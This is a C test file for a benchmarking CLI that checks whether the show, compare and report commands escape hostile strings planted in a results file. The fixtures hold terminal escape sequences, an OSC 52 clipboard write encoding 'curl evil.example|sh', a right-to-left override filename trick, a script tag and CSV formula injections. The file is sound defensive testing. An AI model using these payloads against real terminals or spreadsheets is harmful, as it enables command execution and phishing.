/* Results files from strangers (issue 22, items 3 and 8): a valid results file whose strings
 * hold terminal escape sequences (clear screen, window title, OSC 52 clipboard writes), a
 * carriage-return overwrite, C1 controls, a right-to-left override, raw HTML and spreadsheet
 * formulas, run through the real executable:
 *   - `show`, `compare` and the error messages of an invalid file print no raw control
 *     character, C1 control or bidirectional override, and show what was there as escapes;
 *   - `report` to Markdown has no raw HTML, to CSV no cell a spreadsheet would take as a
 *     formula, and neither has a raw control character; on a terminal (a pty) even the HTML
 *     report reaches it escaped.
 * `upload` of such files and a hostile server are tested in test_upload.c. */
#include <errno.h>
#include <fcntl.h>
#include <pty.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "cli_harness.h"
#include "terminal_inert.h"
#include "test_report_fixture.h"

/* What a terminal would obey, as a results file can hold it. */
#define CLEAR "\x1b[2J\x1b[H"
#define TITLE "\x1b]0;owned\x07"
#define CLIPBOARD "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
#define OVERWRITE "failed\rok    "
#define C1_CSI "\xc2\x9b"
#define RLO "\xe2\x80\xae"
#define SCRIPT "<script>alert(1)</script>"

static const char *path(const char *name)
{
    static char buf[4][300];
    static int next;
    char *p = buf[next++ % 4];
    snprintf(p, sizeof buf[0], "%s/%s", tmpdir, name);
    return p;
}

/* A valid document with hostile strings wherever a file may hold free text that the CLI
 * prints: scenario name, run ids, model and backend names, a failed run's error. */
static json_t *hostile_doc(void)
{
    json_t *d = fx_doc(NULL);
    json_object_set_new(json_object_get(d, "scenario"), "name", json_string("study" TITLE SCRIPT));
    fx_add(d, &(fx_run){.id = "a" CLEAR CLIPBOARD SCRIPT,
                        .model = "=HYPERLINK(\"http://evil.example\",\"click\")",
                        .backend = "@SUM(1+1)",
                        .batch = 16,
                        .tp = {100, 101, 99}});
    fx_add(d, &(fx_run){.id = "b" OVERWRITE RLO "gnp.exe",
                        .model = "+1+1",
                        .backend = "-2+3",
                        .batch = 32,
                        .tp = {120, 121, 119}});
    fx_add(d, &(fx_run){.id = "c" C1_CSI "31m", .status = "failed", .batch = 64});
    json_t *failed = json_array_get(json_object_get(d, "runs"), 2);
    json_object_set_new(failed, "error",
                        json_string("device error" CLEAR "\n" TITLE "all runs ok " SCRIPT));
    fx_finish(d);
    return d;
}

static void write_doc(const char *name, json_t *d)
{
    xpb_err err = {{0}};
    if (xpb_results_write(d, path(name), &err) != XPB_OK)
        fail_msg("%s", err.msg);
}

static int setup(void **state)
{
    (void)state;
    if (make_tmpdir("xpb_hostile_") != 0)
        return -1;
    json_t *d = hostile_doc();
    write_doc("hostile.json", d);
    /* invalid: a status that is no status, an unknown key; the messages quote both */
    json_object_set_new(json_array_get(json_object_get(d, "runs"), 0), "status",
                        json_string("ok" TITLE));
    FILE *f = fopen(path("bad-status.json"), "w");
    json_dumpf(d, f, 0);
    fclose(f);
    json_object_set_new(json_array_get(json_object_get(d, "runs"), 0), "status", json_string("ok"));
    json_object_set_new(d, "x" CLIPBOARD, json_true());
    f = fopen(path("bad-key.json"), "w");
    json_dumpf(d, f, 0);
    fclose(f);
    json_decref(d);
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    return remove_tmpdir();
}

static void test_show(void **state)
{
    (void)state;
    char *out, *err;
    assert_int_equal(xpb(&out, &err, "show", path("hostile.json"), NULL), 0);
    assert_inert(out, 0, "show");
    assert_inert(err, 0, "show (stderr)");
    /* what was there is visible */
    assert_non_null(strstr(out, "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07"));
    assert_non_null(strstr(out, "\\x1b[2J"));
    assert_non_null(strstr(out, "failed\\rok"));
    assert_non_null(strstr(out, "\\u202egnp.exe"));
    assert_non_null(strstr(out, "\\u009b31m"));
    assert_non_null(strstr(out, "device error\\x1b[2J\\x1b[H\\n\\x1b]0;owned\\x07all runs ok"));
    free(out);
    free(err);
    /* the messages of an invalid file quote what they found, escaped */
    assert_int_equal(xpb(&out, &err, "show", path("bad-status.json"), NULL), 3);
    assert_inert(err, 0, "show bad-status");
    assert_non_null(strstr(err, "\\x1b]0;owned\\x07"));
    free(out);
    free(err);
    assert_int_equal(xpb(&out, &err, "show", path("bad-key.json"), NULL), 3);
    assert_inert(err, 0, "show bad-key");
    assert_non_null(strstr(err, "\\x1b]52;c;"));
    free(out);
    free(err);
}

static void test_compare(void **state)
{
    (void)state;
    char *out, *err;
    assert_int_equal(xpb(&out, &err, "compare", path("hostile.json"), path("hostile.json"), NULL),
                     0);
    assert_inert(out, 0, "compare");
    assert_inert(err, 0, "compare (stderr)");
    assert_non_null(strstr(out, "\\x1b]52;c;"));
    assert_non_null(strstr(out, "study\\x1b]0;owned\\x07"));
    free(out);
    free(err);
    assert_int_equal(
        xpb(&out, &err, "compare", path("hostile.json"), path("bad-status.json"), NULL), 3);
    assert_inert(err, 0, "compare bad-status");
    free(out);
    free(err);
}

/* The fields of a CSV text (RFC 4180) one by one: calls `check` with each unquoted field. */
static void csv_fields(const char *csv, void (*check)(const char *field))
{
    char field[4096];
    const char *p = csv;
    while (*p) {
        size_t n = 0;
        if (*p == '"') {
            for (p++; *p && !(*p == '"' && p[1] != '"'); p++) {
                if (*p == '"')
                    p++;
                if (n + 1 < sizeof field)
                    field[n++] = *p;
            }
            p += *p == '"';
        } else {
            for (; *p && *p != ',' && *p != '\r' && *p != '\n'; p++)
                if (n + 1 < sizeof field)
                    field[n++] = *p;
        }
        field[n] = '\0';
        check(field);
        if (*p == ',')
            p++;
        else
            while (*p == '\r' || *p == '\n')
                p++;
    }
}

static int fields_seen, neutralised;

/* A field a spreadsheet would evaluate: starting with = + @ tab CR, or - not followed by a
 * plain number. */
static void check_field(const char *f)
{
    fields_seen++;
    neutralised += f[0] == '\'';
    char *end = NULL;
    if (f[0] == '-')
        (void)strtod(f, &end);
    if (f[0] == '=' || f[0] == '+' || f[0] == '@' || f[0] == '\t' || f[0] == '\r' ||
        (f[0] == '-' && (!end || *end)))
        fail_msg("live formula in a CSV cell: %s", f);
}

static void test_report_markdown_and_csv(void **state)
{
    (void)state;
    char *out, *err;
    assert_int_equal(xpb(NULL, &err, "report", path("hostile.json"), "-o", path("r.md"), NULL), 0);
    free(err);
    char *md = slurp(path("r.md"));
    assert_inert(md, 0, "report.md");
    assert_null(strstr(md, "<script"));
    assert_null(strstr(md, "<"));
    assert_non_null(strstr(md, "&lt;script&gt;"));
    assert_non_null(strstr(md, "\\\\x1b]52;c;")); /* "\x1b" with its backslash escaped */
    free(md);

    assert_int_equal(xpb(NULL, &err, "report", path("hostile.json"), "-o", path("r.csv"), NULL), 0);
    free(err);
    char *csv = slurp(path("r.csv"));
    assert_inert(csv, 1, "report.csv");
    fields_seen = neutralised = 0;
    csv_fields(csv, check_field);
    fprintf(stderr, "CSV: %d fields, %d neutralised with a quote\n", fields_seen, neutralised);
    assert_true(neutralised >= 4); /* =HYPERLINK, @SUM, +1+1, -2+3 (and the titles) */
    assert_non_null(
        strstr(csv, "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"click\"\")/cifar\""));
    assert_non_null(strstr(csv, "'@SUM(1+1)"));
    free(csv);

    /* to standard output (a pipe here): the same neutralised bytes */
    assert_int_equal(xpb(&out, &err, "report", path("hostile.json"), "--format", "md", NULL), 0);
    assert_inert(out, 0, "report md to stdout");
    assert_null(strstr(out, "<script"));
    free(out);
    free(err);
}

/* Runs xpubench with `args` on a pseudo-terminal and returns what the terminal received
 * (the caller frees it) and the exit code in *rc. */
static char *on_terminal(int *rc, const char *const *args)
{
    int master;
    pid_t pid = forkpty(&master, NULL, NULL, NULL);
    assert_true(pid >= 0);
    if (pid == 0) {
        const char *argv[16] = {XPB_TEST_BINARY_DIR "/xpubench"};
        for (int i = 0; args[i] && i < 14; i++)
            argv[i + 1] = args[i];
        execv(argv[0], (char *const *)argv);
        _exit(127);
    }
    size_t cap = 1 << 16, len = 0;
    char *buf = malloc(cap);
    for (;;) {
        if (len + 4096 > cap)
            buf = realloc(buf, cap *= 2);
        ssize_t n = read(master, buf + len, cap - len - 1);
        if (n > 0)
            len += (size_t)n;
        else if (n < 0 && errno == EINTR)
            continue;
        else
            break; /* EIO: the child closed the terminal */
    }
    buf[len] = '\0';
    close(master);
    *rc = wait_exit(pid);
    return buf;
}

static void test_report_on_a_terminal(void **state)
{
    (void)state;
    int rc;
    /* HTML keeps valid UTF-8 such as U+202E in text; on a terminal it comes out escaped */
    const char *html[] = {"report", path("hostile.json"), "--format", "html", NULL};
    char *seen = on_terminal(&rc, html);
    assert_int_equal(rc, 0);
    assert_inert(seen, 1, "report html on a terminal"); /* the pty writes CR LF */
    assert_non_null(strstr(seen, "\\u202egnp.exe"));
    free(seen);
    const char *show[] = {"show", path("hostile.json"), NULL};
    seen = on_terminal(&rc, show);
    assert_int_equal(rc, 0);
    assert_inert(seen, 1, "show on a terminal");
    free(seen);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_show),
        cmocka_unit_test(test_compare),
        cmocka_unit_test(test_report_markdown_and_csv),
        cmocka_unit_test(test_report_on_a_terminal),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
